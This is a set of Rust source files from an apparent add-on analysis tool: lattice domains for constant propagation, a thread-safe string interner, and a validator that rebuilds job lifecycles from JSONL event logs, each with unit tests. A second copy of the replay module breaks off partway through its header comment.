        match (self, other) {
            (NumDom::Bot, _) => true,
            (_, NumDom::Top) => true,
            (a, b) => a == b,
        }
    }
}

impl MeetLattice for NumDom {
    fn top() -> Self {
        NumDom::Top
    }

    fn meet(&self, other: &Self) -> Self {
        match (self, other) {
            (NumDom::Top, x) | (x, NumDom::Top) => *x,
            (a, b) if a == b => *a,
            _ => NumDom::Bot,
        }
    }
}

impl fmt::Display for NumDom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NumDom::Bot => write!(f, "⊥"),
            NumDom::Const(n) => write!(f, "{n}"),
            NumDom::Top => write!(f, "num"),
        }
    }
}

/// Four-point boolean lattice.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BoolDom {
    /// Uninitialized.
    Bot,
    /// Exactly `true`.
    True,
    /// Exactly `false`.
    False,
    /// Either.
    Top,
}

impl BoolDom {
    /// Builds from a concrete boolean.
    pub fn of(b: bool) -> BoolDom {
        if b {
            BoolDom::True
        } else {
            BoolDom::False
        }
    }

    /// Builds from an optional statically-decided comparison.
    pub fn of_option(b: Option<bool>) -> BoolDom {
        match b {
            Some(true) => BoolDom::True,
            Some(false) => BoolDom::False,
            None => BoolDom::Top,
        }
    }

    /// The concrete value, if known.
    pub fn as_const(&self) -> Option<bool> {
        match self {
            BoolDom::True => Some(true),
            BoolDom::False => Some(false),
            _ => None,
        }
    }

    /// True if `true` is a possible value.
    pub fn may_be_true(&self) -> bool {
        matches!(self, BoolDom::True | BoolDom::Top)
    }

    /// True if `false` is a possible value.
    pub fn may_be_false(&self) -> bool {
        matches!(self, BoolDom::False | BoolDom::Top)
    }

    /// Abstract negation.
    pub fn not(&self) -> BoolDom {
        match self {
            BoolDom::Bot => BoolDom::Bot,
            BoolDom::True => BoolDom::False,
            BoolDom::False => BoolDom::True,
            BoolDom::Top => BoolDom::Top,
        }
    }
}

impl Lattice for BoolDom {
    fn bottom() -> Self {
        BoolDom::Bot
    }

    fn join(&self, other: &Self) -> Self {
        match (self, other) {
            (BoolDom::Bot, x) | (x, BoolDom::Bot) => *x,
            (a, b) if a == b => *a,
            _ => BoolDom::Top,
        }
    }

    fn leq(&self, other: &Self) -> bool {
        match (self, other) {
            (BoolDom::Bot, _) => true,
            (_, BoolDom::Top) => true,
            (a, b) => a == b,
        }
    }
}

impl MeetLattice for BoolDom {
    fn top() -> Self {
        BoolDom::Top
    }

    fn meet(&self, other: &Self) -> Self {
        match (self, other) {
            (BoolDom::Top, x) | (x, BoolDom::Top) => *x,
            (a, b) if a == b => *a,
            _ => BoolDom::Bot,
        }
    }
}

impl fmt::Display for BoolDom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BoolDom::Bot => write!(f, "⊥"),
            BoolDom::True => write!(f, "true"),
            BoolDom::False => write!(f, "false"),
            BoolDom::Top => write!(f, "bool"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn num_join() {
        let a = NumDom::Const(1.0);
        let b = NumDom::Const(2.0);
        assert_eq!(a.join(&a), a);
        assert_eq!(a.join(&b), NumDom::Top);
        assert_eq!(NumDom::Bot.join(&a), a);
    }

    #[test]
    fn num_nan_is_a_constant() {
        let nan = NumDom::Const(f64::NAN);
        assert_eq!(nan, nan);
        assert_eq!(nan.join(&nan), nan);
        assert!(nan.leq(&nan));
    }

    #[test]
    fn num_fold() {
        let a = NumDom::Const(2.0);
        let b = NumDom::Const(3.0);
        assert_eq!(a.binop(&b, |x, y| x + y).as_const(), Some(5.0));
        assert_eq!(a.binop(&NumDom::Top, |x, y| x + y).as_const(), None);
        assert_eq!(a.unop(|x| -x).as_const(), Some(-2.0));
    }

    #[test]
    fn bool_ops() {
        assert_eq!(BoolDom::of(true), BoolDom::True);
        assert_eq!(BoolDom::True.not(), BoolDom::False);
        assert_eq!(BoolDom::Top.not(), BoolDom::Top);
        assert!(BoolDom::Top.may_be_true() && BoolDom::Top.may_be_false());
        assert!(!BoolDom::True.may_be_false());
        assert_eq!(BoolDom::of_option(None), BoolDom::Top);
        assert_eq!(BoolDom::of_option(Some(false)), BoolDom::False);
    }

    #[test]
    fn bool_join_meet() {
        assert_eq!(BoolDom::True.join(&BoolDom::False), BoolDom::Top);
        assert_eq!(BoolDom::True.meet(&BoolDom::Top), BoolDom::True);
        assert_eq!(BoolDom::True.meet(&BoolDom::False), BoolDom::Bot);
    }
}

#[cfg(all(test, feature = "fuzz"))]
mod proptests {
    use super::*;
    use crate::lattice::laws;
    use minicheck::Gen;

    pub(crate) fn arb_num(g: &mut Gen) -> NumDom {
        match g.below(3) {
            0 => NumDom::Bot,
            1 => NumDom::Top,
            _ => NumDom::Const(g.range(-3, 3) as f64),
        }
    }

    pub(crate) fn arb_bool(g: &mut Gen) -> BoolDom {
        *g.pick(&[BoolDom::Bot, BoolDom::True, BoolDom::False, BoolDom::Top])
    }

    #[test]
    fn num_lattice_laws() {
        minicheck::check("num_lattice_laws", 256, |g| {
            let (a, b, c) = (arb_num(g), arb_num(g), arb_num(g));
            laws::check_join_laws(&a, &b, &c);
            laws::check_meet_laws(&a, &b);
        });
    }

    #[test]
    fn bool_lattice_laws() {
        minicheck::check("bool_lattice_laws", 256, |g| {
            let (a, b, c) = (arb_bool(g), arb_bool(g), arb_bool(g));
            laws::check_join_laws(&a, &b, &c);
            laws::check_meet_laws(&a, &b);
        });
    }
}
