//! Interned string symbols.
//!
//! The base analysis manipulates the same small set of strings over and
//! over: property names, frame-variable keys (`v0`, `v1`, ...), URL
//! fragments. Interning them into [`Sym`] makes the prefix domain
//! [`Copy`](core::marker::Copy), turns equality into an integer compare,
//! and removes per-step allocation from the interpreter's hot path.
//!
//! The interner is global and append-only (symbols live for the process
//! lifetime), which makes ids consistent across threads: the parallel
//! corpus runs and the sequential golden run agree on every symbol.
//! Because worker threads may intern in nondeterministic order, `Ord`
//! compares the *text*, not the id, so ordered containers iterate
//! identically no matter which thread interned first.

use std::collections::HashMap;
use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::Deref;
use std::sync::{OnceLock, PoisonError, RwLock};

/// An interned, immutable string. `Copy`, pointer-sized payload, O(1)
/// equality/hash by id, text-ordered so `BTreeMap<Sym, _>` iteration is
/// deterministic. Dereferences to `str`, so string methods work directly.
#[derive(Clone, Copy)]
pub struct Sym {
    id: u32,
    text: &'static str,
}

fn interner() -> &'static RwLock<HashMap<&'static str, Sym>> {
    static INTERNER: OnceLock<RwLock<HashMap<&'static str, Sym>>> = OnceLock::new();
    INTERNER.get_or_init(|| RwLock::new(HashMap::new()))
}

impl Sym {
    /// Interns `s`, returning the canonical symbol for that text. The same
    /// text always yields the same symbol, across threads.
    pub fn intern(s: &str) -> Sym {
        // Poison recovery, not propagation: the map is append-only and
        // structurally valid after any panic, and a poisoned-interner
        // panic would cascade into every analysis thread.
        if let Some(sym) = interner()
            .read()
            .unwrap_or_else(PoisonError::into_inner)
            .get(s)
        {
            return *sym;
        }
        let mut map = interner().write().unwrap_or_else(PoisonError::into_inner);
        if let Some(sym) = map.get(s) {
            // Raced with another writer between the read and write locks.
            return *sym;
        }
        let text: &'static str = Box::leak(s.to_owned().into_boxed_str());
        let sym = Sym {
            id: u32::try_from(map.len()).expect("interner overflow"),
            text,
        };
        map.insert(text, sym);
        sym
    }

    /// The empty symbol (cached: `Pre::any()` is built constantly).
    pub fn empty() -> Sym {
        static EMPTY: OnceLock<Sym> = OnceLock::new();
        *EMPTY.get_or_init(|| Sym::intern(""))
    }

    /// The symbol's text.
    pub fn as_str(&self) -> &'static str {
        self.text
    }

    /// Number of symbols interned so far, process-wide. The interner is
    /// append-only, so this only grows — tests use it to bound interner
    /// churn (e.g. repeated `Pre::join`s must not keep interning).
    pub fn interner_len() -> usize {
        interner()
            .read()
            .unwrap_or_else(PoisonError::into_inner)
            .len()
    }
}

impl Deref for Sym {
    type Target = str;

    fn deref(&self) -> &str {
        self.text
    }
}

impl PartialEq for Sym {
    fn eq(&self, other: &Sym) -> bool {
        // Ids are canonical per text, so this equals text equality.
        self.id == other.id
    }
}

impl Eq for Sym {}

impl Hash for Sym {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.id.hash(state);
    }
}

impl PartialOrd for Sym {
    fn partial_cmp(&self, other: &Sym) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Sym {
    fn cmp(&self, other: &Sym) -> std::cmp::Ordering {
        // By text, NOT by id: interning order depends on thread timing,
        // text order does not.
        self.text.cmp(other.text)
    }
}

impl PartialEq<str> for Sym {
    fn eq(&self, other: &str) -> bool {
        self.text == other
    }
}

impl PartialEq<&str> for Sym {
    fn eq(&self, other: &&str) -> bool {
        self.text == *other
    }
}

impl fmt::Debug for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}", self.text)
    }
}

impl fmt::Display for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.text)
    }
}

impl From<&str> for Sym {
    fn from(s: &str) -> Sym {
        Sym::intern(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn interning_is_canonical() {
        let a = Sym::intern("hello-sym-test");
        let b = Sym::intern("hello-sym-test");
        assert_eq!(a, b);
        assert_eq!(a.as_str(), "hello-sym-test");
    }

    #[test]
    fn distinct_texts_differ() {
        assert_ne!(Sym::intern("sym-x"), Sym::intern("sym-y"));
    }

    #[test]
    fn ord_is_by_text() {
        let b = Sym::intern("sym-ord-b");
        let a = Sym::intern("sym-ord-a"); // interned after b
        assert!(a < b, "order must follow text, not interning order");
    }

    #[test]
    fn deref_gives_str_methods() {
        let s = Sym::intern("prefix-body");
        assert!(s.starts_with("prefix"));
        assert!(!s.is_empty());
        assert!(Sym::empty().is_empty());
        assert_eq!(s.len(), "prefix-body".len());
    }

    #[test]
    fn eq_against_str() {
        let s = Sym::intern("compare-me");
        assert!(s == "compare-me");
        assert!(s == *"compare-me");
    }

    #[test]
    fn canonical_across_threads() {
        let syms: Vec<Sym> = std::thread::scope(|scope| {
            (0..8)
                .map(|_| scope.spawn(|| Sym::intern("cross-thread-sym")))
                .collect::<Vec<_>>()
                .into_iter()
                .map(|h| h.join().unwrap())
                .collect()
        });
        for w in syms.windows(2) {
            assert_eq!(w[0], w[1]);
        }
    }
}
