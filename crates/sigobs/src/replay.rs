//! Folds a structured event log back into per-job timelines.
//!
//! This is the proof that the log is sufficient: given only the JSONL
//! lines an [`EventLog`](crate::EventLog)-instrumented daemon wrote, every
//! job's lifecycle must reconstruct to one of four well-formed shapes:
//!
//! * **Computed** — `job_enqueued` → `job_dequeued` → `job_computed` →
//!   `job_done`, with strictly increasing `seq`.
//! * **Cache hit** — `cache_hit` (at submit time, or after a dequeue when
//!   a sibling filled the cache first) → `job_done`, with the producing
//!   job's ID recorded as provenance.
//! * **Coalesced** — `job_coalesced` naming the in-flight producer whose
//!   result this job shared → `job_done`.
//! * **Rejected** — `job_rejected` under overload; terminal.
//!
//! Anything else — a job that never terminated, computed without being
//! dequeued, or hit the cache with no producer — is a validation error,
//! and the replay test treats it as a logging bug.
//!
//! **Sampled logs.** Under overload the logger may drop listed events
//! (see [`SamplePolicy`](crate::SamplePolicy)), declaring every drop in
//! `suppressed` records. [`replay_log`] accepts such logs: a job whose
//! only record is `job_enqueued` is presumed shed — its `job_rejected`
//! record fell to sampling — as long as the log's declared
//! `job_rejected` suppression budget covers it. Orphans beyond the
//! declared budget are still errors: sampling must be *declared*, never
//! silent.

use minijson::Json;
use std::collections::BTreeMap;

/// The terminal shape of one job's lifecycle.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// Ran the full pipeline on a worker.
    Computed,
    /// Served from the signature cache.
    CacheHit,
    /// Shared an in-flight sibling's computation.
    Coalesced,
    /// Shed by the overload policy before entering the queue.
    Rejected,
}

/// One job's events, extracted from the log. `seq` positions come from
/// the logger's monotone counter, so ordering checks need no clocks.
#[derive(Debug, Clone, Default)]
pub struct JobTimeline {
    /// The job's request ID (`j-<n>`).
    pub job: String,
    /// Addon name from the request, if logged.
    pub name: Option<String>,
    /// `seq` of `job_enqueued`.
    pub enqueued: Option<u64>,
    /// `seq` of `job_dequeued`.
    pub dequeued: Option<u64>,
    /// `seq` of `job_computed`.
    pub computed: Option<u64>,
    /// Verdict string from `job_computed` (`pass`/`fail`/`leak`/
    /// `timeout`/`error`).
    pub verdict: Option<String>,
    /// `seq` of `cache_hit`.
    pub cache_hit: Option<u64>,
    /// `seq` of `job_coalesced`.
    pub coalesced: Option<u64>,
    /// Producing job's ID, from `cache_hit` or `job_coalesced`.
    pub producer: Option<String>,
    /// `seq` of `job_rejected`.
    pub rejected: Option<u64>,
    /// `seq` of `job_done`.
    pub done: Option<u64>,
    /// Wall micros from `job_done`.
    pub micros: Option<u64>,
    /// Pipeline spans attributed to this job: `(span name, dur_us)`.
    pub spans: Vec<(String, u64)>,
    /// Every event seen for this job, in log order: `(seq, event)`.
    pub events: Vec<(u64, String)>,
}

fn get_u64(record: &Json, key: &str) -> Option<u64> {
    record[key].as_f64().map(|n| n as u64)
}

/// Groups parsed log records into per-job timelines. Records without a
/// `job` field (daemon lifecycle, protocol errors) are ignored here —
/// they narrate the daemon, not a job.
pub fn job_timelines(records: &[Json]) -> BTreeMap<String, JobTimeline> {
    let mut jobs: BTreeMap<String, JobTimeline> = BTreeMap::new();
    for record in records {
        let Some(job) = record["job"].as_str() else {
            continue;
        };
        let Some(seq) = get_u64(record, "seq") else {
            continue;
        };
        let Some(event) = record["event"].as_str() else {
            continue;
        };
        let t = jobs.entry(job.to_owned()).or_insert_with(|| JobTimeline {
            job: job.to_owned(),
            ..JobTimeline::default()
        });
        t.events.push((seq, event.to_owned()));
        if let Some(name) = record["name"].as_str() {
            t.name = Some(name.to_owned());
        }
        match event {
            "job_enqueued" => t.enqueued = Some(seq),
            "job_dequeued" => t.dequeued = Some(seq),
            "job_computed" => {
                t.computed = Some(seq);
                t.verdict = record["verdict"].as_str().map(str::to_owned);
            }
            "cache_hit" => {
                t.cache_hit = Some(seq);
                if let Some(p) = record["producer"].as_str() {
                    t.producer = Some(p.to_owned());
                }
            }
            "job_coalesced" => {
                t.coalesced = Some(seq);
                if let Some(p) = record["producer"].as_str() {
                    t.producer = Some(p.to_owned());
                }
            }
            "job_rejected" => t.rejected = Some(seq),
            "job_done" => {
                t.done = Some(seq);
                t.micros = get_u64(record, "micros");
            }
            "span" => {
                if let (Some(name), Some(dur)) =
                    (record["span"].as_str(), get_u64(record, "dur_us"))
                {
                    t.spans.push((name.to_owned(), dur));
                }
            }
            _ => {}
        }
    }
    jobs
}

impl JobTimeline {
    /// True when the job's only lifecycle event is `job_enqueued` — the
    /// shape a shed job leaves when its `job_rejected` record was
    /// dropped by sampling.
    pub fn enqueued_only(&self) -> bool {
        self.enqueued.is_some()
            && self.dequeued.is_none()
            && self.computed.is_none()
            && self.cache_hit.is_none()
            && self.coalesced.is_none()
            && self.rejected.is_none()
            && self.done.is_none()
    }

    /// Classifies the lifecycle and checks its internal ordering.
    pub fn validate(&self) -> Result<Outcome, String> {
        let job = &self.job;
        if let Some(r) = self.rejected {
            if let Some(seq) = self.dequeued.or(self.computed).or(self.done) {
                return Err(format!(
                    "{job}: rejected at seq {r} but has later lifecycle event at seq {seq}"
                ));
            }
            return Ok(Outcome::Rejected);
        }
        let done = self
            .done
            .ok_or_else(|| format!("{job}: never reached job_done"))?;
        if let Some(hit) = self.cache_hit {
            if self.computed.is_some() {
                return Err(format!("{job}: both cache_hit and job_computed"));
            }
            if self.producer.is_none() {
                return Err(format!("{job}: cache_hit without producer provenance"));
            }
            if hit >= done {
                return Err(format!("{job}: cache_hit at {hit} not before done at {done}"));
            }
            return Ok(Outcome::CacheHit);
        }
        if let Some(co) = self.coalesced {
            if self.computed.is_some() {
                return Err(format!("{job}: both job_coalesced and job_computed"));
            }
            if self.producer.is_none() {
                return Err(format!("{job}: job_coalesced without producer"));
            }
            if co >= done {
                return Err(format!("{job}: coalesced at {co} not before done at {done}"));
            }
            return Ok(Outcome::Coalesced);
        }
        let enq = self
            .enqueued
            .ok_or_else(|| format!("{job}: computed path without job_enqueued"))?;
        let deq = self
            .dequeued
            .ok_or_else(|| format!("{job}: computed path without job_dequeued"))?;
        let comp = self
            .computed
            .ok_or_else(|| format!("{job}: terminated without compute, hit, or coalesce"))?;
        if !(enq < deq && deq < comp && comp < done) {
            return Err(format!(
                "{job}: out-of-order lifecycle enq={enq} deq={deq} computed={comp} done={done}"
            ));
        }
        if self.verdict.is_none() {
            return Err(format!("{job}: job_computed without a verdict"));
        }
        Ok(Outcome::Computed)
    }
}

/// A validated replay of a (possibly sampled) log: the per-job
/// timelines plus the log's declared suppression accounting.
#[derive(Debug, Clone)]
pub struct Replay {
    /// Every job that left at least one record, validated.
    pub timelines: BTreeMap<String, JobTimeline>,
    /// Declared drops per suppressed event name, summed over the log's
    /// `suppressed` records.
    pub suppressed: BTreeMap<String, u64>,
    /// Enqueued-only orphans accepted against the `job_rejected`
    /// suppression budget (the enqueue-then-shed race under sampling).
    pub presumed_rejected: u64,
}

impl Replay {
    /// The log's declared suppression budget for `event`: the total
    /// drops its counted `suppressed` records declared. Budgets are
    /// tracked independently per event (each sampled stream declares
    /// its own drops at its own rate), so one stream's budget never
    /// excuses another stream's missing records.
    pub fn budget(&self, event: &str) -> u64 {
        self.suppressed.get(event).copied().unwrap_or(0)
    }
}

/// Parses a JSONL log body, reconstructs every job timeline, and
/// validates each one — reconciling sampled logs against their declared
/// `suppressed` budgets (see the module docs). Also checks that `seq`
/// is strictly monotone across the whole log (one writer, no lost
/// records).
pub fn replay_log(text: &str) -> Result<Replay, String> {
    let mut records = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let record = Json::parse(line)
            .map_err(|e| format!("log line {}: {e}", i + 1))?;
        records.push(record);
    }
    let mut last_seq: Option<u64> = None;
    let mut suppressed: BTreeMap<String, u64> = BTreeMap::new();
    for record in &records {
        let seq = get_u64(record, "seq")
            .ok_or_else(|| format!("record without seq: {}", record.to_string_compact()))?;
        if let Some(prev) = last_seq {
            if seq <= prev {
                return Err(format!("seq not strictly monotone: {prev} then {seq}"));
            }
        }
        last_seq = Some(seq);
        if record["event"].as_str() == Some("suppressed") {
            if let (Some(event), Some(count)) =
                (record["suppressed_event"].as_str(), get_u64(record, "count"))
            {
                *suppressed.entry(event.to_owned()).or_insert(0) += count;
            }
        }
    }
    let timelines = job_timelines(&records);
    // Orphan coverage draws on job_rejected's own budget only; other
    // events' declared drops are accounted separately (see
    // [`Replay::budget`]).
    let rejected_budget = suppressed.get("job_rejected").copied().unwrap_or(0);
    let mut presumed_rejected = 0u64;
    for t in timelines.values() {
        if let Err(e) = t.validate() {
            if t.enqueued_only() && presumed_rejected < rejected_budget {
                presumed_rejected += 1;
                continue;
            }
            if t.enqueued_only() {
                return Err(format!(
                    "{e} (enqueued-only orphan exceeds the declared job_rejected \
                     suppression budget of {rejected_budget})"
                ));
            }
            return Err(e);
        }
    }
    Ok(Replay {
        timelines,
        suppressed,
        presumed_rejected,
    })
}

/// [`replay_log`], returning just the timelines — the original
/// entry point most tests use.
pub fn validate_log(text: &str) -> Result<BTreeMap<String, JobTimeline>, String> {
    replay_log(text).map(|r| r.timelines)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(seq: u64, event: &str, fields: &[(&str, Json)]) -> String {
        let mut r = Json::obj();
        r.set("seq", Json::from(seq as f64));
        r.set("ts_us", Json::from(1000.0 + seq as f64));
        r.set("level", Json::from("info"));
        r.set("event", Json::from(event));
        for (k, v) in fields {
            r.set(k, v.clone());
        }
        r.to_string_compact()
    }

    #[test]
    fn reconstructs_a_computed_lifecycle() {
        let log = [
            line(0, "serve_started", &[("workers", Json::from(2.0))]),
            line(1, "job_enqueued", &[("job", Json::from("j-0")), ("name", Json::from("a.js"))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "span", &[("job", Json::from("j-0")), ("span", Json::from("phase1")), ("dur_us", Json::from(12.0))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(5, "job_done", &[("job", Json::from("j-0")), ("micros", Json::from(99.0))]),
        ]
        .join("\n");
        let timelines = validate_log(&log).expect("valid log");
        let t = &timelines["j-0"];
        assert_eq!(t.validate(), Ok(Outcome::Computed));
        assert_eq!(t.name.as_deref(), Some("a.js"));
        assert_eq!(t.verdict.as_deref(), Some("pass"));
        assert_eq!(t.micros, Some(99));
        assert_eq!(t.spans, [("phase1".to_owned(), 12)]);
    }

    #[test]
    fn cache_hit_requires_producer_provenance() {
        let with_producer = [
            line(0, "cache_hit", &[("job", Json::from("j-1")), ("producer", Json::from("j-0"))]),
            line(1, "job_done", &[("job", Json::from("j-1")), ("micros", Json::from(3.0))]),
        ]
        .join("\n");
        let timelines = validate_log(&with_producer).unwrap();
        assert_eq!(timelines["j-1"].validate(), Ok(Outcome::CacheHit));
        assert_eq!(timelines["j-1"].producer.as_deref(), Some("j-0"));

        let without = [
            line(0, "cache_hit", &[("job", Json::from("j-1"))]),
            line(1, "job_done", &[("job", Json::from("j-1"))]),
        ]
        .join("\n");
        let err = validate_log(&without).unwrap_err();
        assert!(err.contains("producer"), "{err}");
    }

    #[test]
    fn unterminated_and_out_of_order_jobs_fail() {
        let unterminated = line(0, "job_enqueued", &[("job", Json::from("j-9"))]);
        assert!(validate_log(&unterminated).unwrap_err().contains("job_done"));

        let skipped_dequeue = [
            line(0, "job_enqueued", &[("job", Json::from("j-2"))]),
            line(1, "job_computed", &[("job", Json::from("j-2")), ("verdict", Json::from("pass"))]),
            line(2, "job_done", &[("job", Json::from("j-2"))]),
        ]
        .join("\n");
        let err = validate_log(&skipped_dequeue).unwrap_err();
        assert!(err.contains("job_dequeued"), "{err}");
    }

    #[test]
    fn rejected_jobs_are_terminal() {
        let ok = line(0, "job_rejected", &[("job", Json::from("j-3")), ("reason", Json::from("overloaded"))]);
        assert_eq!(validate_log(&ok).unwrap()["j-3"].validate(), Ok(Outcome::Rejected));

        let bad = [
            line(0, "job_rejected", &[("job", Json::from("j-3"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-3"))]),
        ]
        .join("\n");
        assert!(validate_log(&bad).is_err());
    }

    #[test]
    fn seq_must_be_strictly_monotone() {
        let log = [
            line(5, "serve_started", &[]),
            line(5, "serve_shutdown", &[]),
        ]
        .join("\n");
        assert!(validate_log(&log).unwrap_err().contains("monotone"));
    }

    #[test]
    fn sampled_log_reconciles_via_declared_suppression() {
        // j-0's rejection was kept (sampled); j-1's was dropped — its
        // enqueued-only orphan is covered by the suppressed budget of 2
        // (one dropped rejection belonged to a job that never logged
        // anything at all).
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-2"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-2"))]),
            line(2, "job_computed", &[("job", Json::from("j-2")), ("verdict", Json::from("pass"))]),
            line(3, "job_done", &[("job", Json::from("j-2"))]),
            line(4, "job_rejected", &[("job", Json::from("j-0")), ("reason", Json::from("overloaded"))]),
            line(5, "job_enqueued", &[("job", Json::from("j-1"))]),
            line(6, "suppressed", &[("suppressed_event", Json::from("job_rejected")), ("count", Json::from(2.0)), ("sample_every", Json::from(4.0))]),
        ]
        .join("\n");
        let replay = replay_log(&log).expect("sampled log reconciles");
        assert_eq!(replay.suppressed.get("job_rejected"), Some(&2));
        assert_eq!(replay.presumed_rejected, 1, "one orphan presumed shed");
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Rejected));
        assert_eq!(replay.timelines["j-2"].validate(), Ok(Outcome::Computed));
        // Kept + suppressed rejections account for every shed job.
        let kept = replay
            .timelines
            .values()
            .filter(|t| t.validate() == Ok(Outcome::Rejected))
            .count() as u64;
        assert_eq!(kept + replay.suppressed["job_rejected"], 3);
    }

    #[test]
    fn orphans_beyond_the_declared_budget_still_fail() {
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_enqueued", &[("job", Json::from("j-1"))]),
            line(2, "suppressed", &[("suppressed_event", Json::from("job_rejected")), ("count", Json::from(1.0)), ("sample_every", Json::from(4.0))]),
        ]
        .join("\n");
        let err = replay_log(&log).unwrap_err();
        assert!(err.contains("suppression budget"), "{err}");

        // And with no declaration at all, orphans fail as before.
        let silent = line(0, "job_enqueued", &[("job", Json::from("j-9"))]);
        assert!(replay_log(&silent).unwrap_err().contains("job_done"));
    }

    #[test]
    fn suppression_of_other_events_grants_no_rejection_budget() {
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "suppressed", &[("suppressed_event", Json::from("span")), ("count", Json::from(50.0)), ("sample_every", Json::from(8.0))]),
        ]
        .join("\n");
        assert!(replay_log(&log).is_err(), "span budget must not excuse a lost rejection");
    }

    #[test]
    fn daemon_narration_events_ride_along() {
        // summary_lookup (incremental re-vetting statistics) and
        // alert_fired / alert_cleared (in-daemon alerting) narrate the
        // daemon, not a job: replay accepts them interleaved with job
        // lifecycles and leaves the timelines untouched.
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "summary_lookup", &[("hits", Json::from(3.0)), ("misses", Json::from(1.0)), ("reanalyzed", Json::from(2.0))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(4, "alert_fired", &[("rule", Json::from("cache-hit-ratio")), ("value", Json::from(0.1)), ("bound", Json::from(0.5))]),
            line(5, "job_done", &[("job", Json::from("j-0"))]),
            line(6, "alert_cleared", &[("rule", Json::from("cache-hit-ratio"))]),
        ]
        .join("
");
        let replay = replay_log(&log).expect("narration events are accepted");
        assert_eq!(replay.timelines.len(), 1);
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Computed));
    }

    #[test]
    fn per_event_suppression_budgets_are_tracked_independently() {
        let log = [
            line(0, "suppressed", &[("suppressed_event", Json::from("span")), ("count", Json::from(8.0)), ("sample_every", Json::from(4.0))]),
            line(1, "suppressed", &[("suppressed_event", Json::from("job_rejected")), ("count", Json::from(2.0)), ("sample_every", Json::from(100.0))]),
            line(2, "suppressed", &[("suppressed_event", Json::from("span")), ("count", Json::from(8.0)), ("sample_every", Json::from(4.0))]),
        ]
        .join("
");
        let replay = replay_log(&log).expect("declared-only log is valid");
        assert_eq!(replay.budget("span"), 16);
        assert_eq!(replay.budget("job_rejected"), 2);
        assert_eq!(replay.budget("summary_lookup"), 0);
    }

    #[test]
    fn connection_lifecycle_events_ride_along() {
        // The event-driven server narrates connections too:
        // conn_accepted / conn_closed / write_backpressure / job_deadline
        // carry a `conn` (or `job`) field but are not part of any job's
        // enqueue→done chain. Replay must accept them interleaved — and
        // a deadline-fired job still validates because the worker's late
        // completion posts the terminal job_done.
        let log = [
            line(0, "conn_accepted", &[("conn", Json::from("c-0")), ("peer", Json::from("127.0.0.1:9"))]),
            line(1, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "write_backpressure", &[("conn", Json::from("c-0")), ("queued_bytes", Json::from(70000.0)), ("capacity_bytes", Json::from(65536.0))]),
            line(4, "job_deadline", &[("job", Json::from("j-0")), ("deadline_ms", Json::from(50.0))]),
            line(5, "conn_closed", &[("conn", Json::from("c-0")), ("reason", Json::from("eof"))]),
            line(6, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(7, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        let replay = replay_log(&log).expect("connection events are accepted");
        assert_eq!(replay.timelines.len(), 1);
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Computed));
    }

    #[test]
    fn coalesced_jobs_share_a_producer() {
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_coalesced", &[("job", Json::from("j-1")), ("producer", Json::from("j-0"))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(4, "job_done", &[("job", Json::from("j-0"))]),
            line(5, "job_done", &[("job", Json::from("j-1"))]),
        ]
        .join("\n");
        let timelines = validate_log(&log).unwrap();
        assert_eq!(timelines["j-0"].validate(), Ok(Outcome::Computed));
        assert_eq!(timelines["j-1"].validate(), Ok(Outcome::Coalesced));
        assert_eq!(timelines["j-1"].producer.as_deref(), Some("j-0"));
    }
}
