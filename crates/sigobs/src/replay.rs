//! Folds a structured event log back into per-job timelines.
//!
//! This is the proof that the log is sufficient: given only the JSONL
//! lines an [`EventLog`](crate::EventLog)-instrumented daemon wrote, every
//! job's lifecycle must reconstruct to one of four well-formed shapes:
//!
//! * **Computed** — `job_enqueued` → `job_dequeued` → `job_computed` →
//!   `job_done`, with strictly increasing `seq`.
//! * **Cache hit** — `cache_hit` (at submit time, or after a dequeue when
//!   a sibling filled the cache first) → `job_done`, with the producing
//!   job's ID recorded as provenance.
//! * **Coalesced** — `job_coalesced` naming the in-flight producer whose
//!   result this job shared → `job_done`.
//! * **Rejected** — `job_rejected` under overload; terminal.
//!
//! Anything else — a job that never terminated, computed without being
//! dequeued, or hit the cache with no producer — is a validation error,
//! and the replay test treats it as a logging bug.
//!
//! **Postmortems.** A computed job may carry a `job_profile` record —
//! the per-job cost-attribution postmortem — which must sit between
//! `job_computed` and `job_done`, agree with the verdict on whether the
//! job timed out, and name well-formed hotspots whose steps never
